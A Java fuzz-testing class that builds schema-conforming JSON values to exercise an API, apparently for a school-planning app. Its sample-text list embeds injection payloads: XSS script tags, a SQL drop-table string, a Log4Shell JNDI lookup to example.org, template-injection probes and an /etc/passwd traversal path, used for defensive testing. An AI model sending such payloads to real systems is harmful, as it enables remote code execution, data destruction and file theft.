package org.trellis.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.trellis.support.Api;
import org.trellis.support.Contract;
import org.trellis.support.Lincoln;

/// Makes values that a schema allows.
///
/// A schema does not say which record an id may name, nor that of two counts one may not be the greater: the names of
/// properties do, so that most of what is made here gets past the door.
final class Values {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final List<String> TEXTS = List.of(
            "Students compare fractions and say why.",
            "Los estudiantes comparan fracciones y explican por qué.",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "'; drop table team; --",
            "${jndi:ldap://example.org/a} {{7*7}} #{7*7} %s %n {0}",
            "\uD83D\uDC69\u200D\uD83C\uDFEB e\u0301\u0323 \u202Eabc\u202C \u0645\u0639\u0644\u0645 \u6559\u5E08",
            "Two lines\nand a\ttab",
            "\u00A0x\u2028y\uFEFF",
            "../../etc/passwd\\..\\",
            "null",
            "0");
    private static final int SMALL = 60;

    private final Random random;
    private final Known known;
    private final LocalDate today = LocalDate.now(ZoneOffset.UTC);

    Values(Random random, Known known) {
        this.random = random;
        this.known = known;
    }

    /// A value for the property of this name.
    JsonNode of(String name, JsonNode schema) {
        if (mayBeNull(schema) && random.nextInt(8) == 0) {
            return JSON.nullNode();
        }
        JsonNode plain = resolved(schema);
        if (plain.has("enum")) {
            return plain.path("enum").get(random.nextInt(plain.path("enum").size()));
        }
        return switch (type(plain)) {
            case "object" -> object(plain);
            case "array" -> array(name, plain);
            case "integer" ->
                IntNode.valueOf(integer(
                        plain.path("minimum").asInt(0), plain.path("maximum").asInt(SMALL)));
            case "boolean" -> JSON.booleanNode(random.nextBoolean());
            default -> TextNode.valueOf(text(name, plain));
        };
    }

    static JsonNode resolved(JsonNode schema) {
        JsonNode one = schema.has("anyOf") ? schema.path("anyOf").get(0) : schema;
        return one.has("$ref") ? Contract.read(one.path("$ref").asText()) : one;
    }

    private static boolean mayBeNull(JsonNode schema) {
        return schema.has("anyOf") || schema.path("type").isArray();
    }

    /// The type of a schema other than `null`.
    private static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        return type.isArray() ? type.get(0).asText() : type.asText();
    }

    private ObjectNode object(JsonNode schema) {
        Set<String> required = new LinkedHashSet<>();
        schema.path("required").forEach(name -> required.add(name.asText()));
        ObjectNode object = JSON.objectNode();
        schema.path("properties").properties().forEach(property -> {
            if (required.contains(property.getKey()) || random.nextInt(10) < 6) {
                object.set(property.getKey(), of(property.getKey(), property.getValue()));
            }
        });
        agree(object);
        return object;
    }

    private ArrayNode array(String name, JsonNode schema) {
        int least = schema.path("minItems").asInt(0);
        int most = Math.min(schema.path("maxItems").asInt(SMALL), least + 3);
        Set<JsonNode> items = new LinkedHashSet<>();
        for (int i = integer(least, most); i > 0; i--) {
            items.add(of(name, schema.path("items")));
        }
        return JSON.arrayNode().addAll(items);
    }

    /// Puts counts and days that belong together in their order.
    private void agree(ObjectNode object) {
        inOrder(object, "meeting", "assessed", "eligible");
        inOrder(object, "from", "to");
        if (object.has("startsOn") && object.has("endsOn")) {
            LocalDate start = today.plusDays(1_000L + random.nextInt(20_000));
            object.put("startsOn", start.toString());
            object.put("endsOn", start.plusDays(200).toString());
        }
    }

    private static void inOrder(ObjectNode object, String... names) {
        List<String> there = List.of(names).stream().filter(object::has).toList();
        List<JsonNode> sorted = there.stream()
                .map(name -> (JsonNode) object.get(name))
                .sorted(java.util.Comparator.comparing(
                        (JsonNode value) -> value.isInt() ? "%09d".formatted(value.asInt()) : value.asText()))
                .toList();
        for (int i = 0; i < there.size(); i++) {
            object.set(there.get(i), sorted.get(i));
        }
    }

    private int integer(int least, int most) {
        int usual = most - least > 1_000 && random.nextInt(10) > 0 ? least + SMALL : most;
        return least + random.nextInt(usual - least + 1);
    }

    private String text(String name, JsonNode schema) {
        return switch (schema.path("format").asText()) {
            case "uuid" -> id(name);
            case "date" -> day(name).toString();
            case "date-time" -> day(name) + "T10:15:30Z";
            default -> words(name, schema);
        };
    }

    private String id(String name) {
        String one = random.nextInt(20) == 0 ? null : known.anyId(name, random);
        return one == null ? Api.newId().toString() : one;
    }

    private LocalDate day(String name) {
        if (random.nextInt(10) == 0) {
            return LocalDate.of(1900, 1, 1).plusDays(random.nextInt(400_000));
        }
        int days = random.nextInt(150);
        return name.startsWith("target") || name.equals("to") ? today.plusDays(days + 1L) : today.minusDays(days);
    }

    private String words(String name, JsonNode schema) {
        return switch (name) {
            case "email" -> Api.newId() + "@fuzz.example";
            case "password", "current", "wanted" -> Lincoln.PASSWORD;
            case "refreshToken" -> String.valueOf(known.nextRefreshToken());
            case "locale", "language" -> random.nextBoolean() ? "en" : "es";
            case "include" -> "total";
            case "timeZone" -> random.nextBoolean() ? "America/Chicago" : "Pacific/Honolulu";
            case "rule" -> random.nextBoolean() ? "FREQ=WEEKLY;BYDAY=TU;COUNT=3" : "FREQ=MONTHLY;BYDAY=1TH;COUNT=2";
            case "startsAt" -> random.nextBoolean() ? "15:00" : "07:45";
            case "url" -> "https://ies.ed.gov/ncee/wwc/PracticeGuide/15";
            default ->
                fitting(
                        schema.path("minLength").asInt(1),
                        schema.path("maxLength").asInt(200));
        };
    }

    private String fitting(int least, int most) {
        StringBuilder text = new StringBuilder(TEXTS.get(random.nextInt(TEXTS.size())));
        while (text.length() < least || (random.nextInt(8) == 0 && text.length() < most)) {
            text.append(' ').append(TEXTS.get(random.nextInt(TEXTS.size())));
        }
        if (text.length() > most) {
            text.setLength(most);
            if (Character.isHighSurrogate(text.charAt(most - 1))) {
                text.setCharAt(most - 1, 'x');
            }
        }
        return text.toString();
    }
}
